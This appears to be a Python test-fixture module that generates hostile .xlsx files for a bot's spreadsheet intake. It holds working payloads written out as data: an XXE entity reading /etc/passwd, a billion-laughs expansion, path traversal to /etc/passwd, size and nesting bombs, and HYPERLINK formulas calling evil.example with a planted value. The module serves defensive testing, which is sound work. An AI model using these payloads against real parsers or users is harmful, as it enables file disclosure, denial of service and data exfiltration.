"""Hostile spreadsheets: entities, sizes that are none, formulas, and parts that are not there."""

import io
import zipfile
from collections.abc import Iterable

from tests.bot.intake.planted import PLANTED, Made, Makers
from tests.bot.intake.spreadsheets import RELATIONS, TYPES, engagement, spreadsheet, xml_row

hostile = Makers()


def sheet(rows: str, **parts: str) -> Made:
    return "Content.xlsx", engagement(rows, **parts).getvalue()


def table(*rows: Iterable[object]) -> str:
    header = ("Date", "Impressions", "Engagements")
    return "".join(
        xml_row(number, *map(str, row)) for number, row in enumerate((header, *rows), start=1)
    )


DAYS = table(("1/1/2026", 5, 1), ("1/2/2026", 6, 2))


@hostile
def xlsx_external_entity() -> Made:
    doctype = '<!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd">]>'
    return sheet(table(("1/1/2026", "&leak;", PLANTED)), doctype=doctype)


@hostile
def xlsx_billion_laughs() -> Made:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE x [<!ENTITY l0 "{PLANTED}">{laughs}]>'
    return sheet(table(("1/1/2026", "&l9;", 1)), doctype=doctype)


@hostile
def xlsx_entity_among_relations() -> Made:
    doctype = "?><!DOCTYPE x [<!ENTITY a 'b'>]>"
    return sheet(DAYS, relations=RELATIONS.replace("?>", doctype, 1))


@hostile
def xlsx_entity_in_utf16() -> Made:
    made = io.BytesIO(sheet(DAYS)[1])
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'
    with zipfile.ZipFile(made, "a") as writing:
        writing.writestr("xl/sharedStrings.xml", text.encode("utf-16"))
    return "Content.xlsx", made.getvalue()


@hostile
def xlsx_cut_short() -> Made:
    name, data = sheet(DAYS)
    return name, data[: len(data) // 2]


@hostile
def xlsx_of_wrong_content_types() -> Made:
    return sheet(DAYS, types=TYPES.replace("sheet.main+xml", "document.main+xml"))


@hostile
def xlsx_of_no_xml() -> Made:
    return sheet(DAYS, book=PLANTED)


@hostile
def xlsx_whose_sheet_is_elsewhere() -> Made:
    return sheet(DAYS, relations=RELATIONS.replace("worksheets/sheet1.xml", "/../../etc/passwd"))


@hostile
def xlsx_merged_all_over() -> Made:
    return sheet(DAYS, after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')


@hostile
def xlsx_of_wild_extent() -> Made:
    return sheet(DAYS, extent="C900:XFD1048576")


@hostile
def xlsx_row_far_below() -> Made:
    return sheet(DAYS + xml_row(1_048_576, "1/3/2026", "1", "1"))


@hostile
def xlsx_row_beyond_counting() -> Made:
    return sheet(DAYS + xml_row(10**18, "1/3/2026", "1", "1"))


@hostile
def xlsx_columns_far_right() -> Made:
    far = "".join(f'<row r="{n}"><c r="ZZZ{n}"><v>1</v></c></row>' for n in range(3, 4_000))
    return sheet(DAYS + far)


@hostile
def xlsx_of_very_many_cells() -> Made:
    return sheet(DAYS + "<row>" + "<c/>" * 600_000 + "</row>")


@hostile
def xlsx_of_more_cells_than_a_year_has() -> Made:
    """Make cells so different that they do not pack densely, and more than are read."""
    cells = (f'<c r="A{n}"><v>{hash((n, n))}</v></c>' for n in range(70_000))
    return sheet(DAYS + "<row>" + "".join(cells) + "</row>")


@hostile
def xlsx_deeply_nested() -> Made:
    return sheet(DAYS, after="<a>" * 50_000 + "</a>" * 50_000)


@hostile
def xlsx_of_formulas_without_values() -> Made:
    cells = '<c r="A2"><f>NOW()</f></c><c r="B2"><f>1+1</f></c><c r="C2"><f>2+2</f></c>'
    return sheet(table() + f'<row r="2">{cells}</row>')


@hostile
def xlsx_of_formulas_with_values() -> Made:
    cells = (
        '<c r="A2" t="str"><f>TEXT(NOW(),"")</f><v>1/1/2026</v></c>'
        f'<c r="B2"><f>HYPERLINK("https://evil.example/{PLANTED}")</f><v>7</v></c>'
        '<c r="C2" t="e"><f>1/0</f><v>#DIV/0!</v></c>'
    )
    return sheet(table() + f'<row r="2">{cells}</row>' + xml_row(3, "1/2/2026", "6", "2"))


@hostile
def xlsx_of_formulas_as_texts() -> Made:
    evil = f'=HYPERLINK("https://evil.example/{PLANTED}")'
    rows = [["Date", "Impressions", "Engagements"], ["1/1/2026", f"'{evil}", 1]]
    return "Content.xlsx", spreadsheet({"ENGAGEMENT": rows}).getvalue()


@hostile
def xlsx_of_numbers_that_are_none() -> Made:
    cells = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>1/{n}/2026</t></is></c>'
        f'<c r="B{n}"><v>{value}</v></c><c r="C{n}"><v>1</v></c></row>'
        for n, value in enumerate(("1e400", "-1", "0.5"), start=2)
    )
    good = "".join(xml_row(n, f"2/{n}/2026", "6", "2") for n in range(5, 10))
    return sheet(table() + cells + good)


@hostile
def xlsx_of_a_number_that_cannot_be_read() -> Made:
    return sheet(DAYS + '<row r="4"><c r="A4"><v>NaN</v></c></row>')


@hostile
def xlsx_of_a_day_beyond_time() -> Made:
    """Make a day about whose number openpyxl warns, and tells it."""
    styles = (
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    )
    made = io.BytesIO(sheet(DAYS + '<row r="4"><c r="A4" s="1"><v>99999999</v></c></row>')[1])
    with zipfile.ZipFile(made, "a") as writing:
        writing.writestr("xl/styles.xml", styles)
    return "Content.xlsx", made.getvalue()


@hostile
def xlsx_of_strings_that_are_missing() -> Made:
    return sheet(table() + '<row r="2"><c r="A2" t="s"><v>99</v></c></row>')


@hostile
def xlsx_of_another_kind() -> Made:
    return "Content.xlsx", spreadsheet({"Payroll": [["Name", "Pay"], [PLANTED, 9]]}).getvalue()


@hostile
def xlsx_with_columns_twice() -> Made:
    rows = xml_row(1, "Date", "Impressions", "Impressions", "Engagements")
    return sheet(rows + xml_row(2, "1/1/2026", "1", "2", "3"))


@hostile
def xlsx_with_columns_shifted() -> Made:
    return sheet(table((PLANTED, "1/1/2026", 5), (PLANTED, "1/2/2026", 6)))


@hostile
def xlsx_without_column_names() -> Made:
    return sheet(xml_row(1, "1/1/2026", "5", PLANTED))
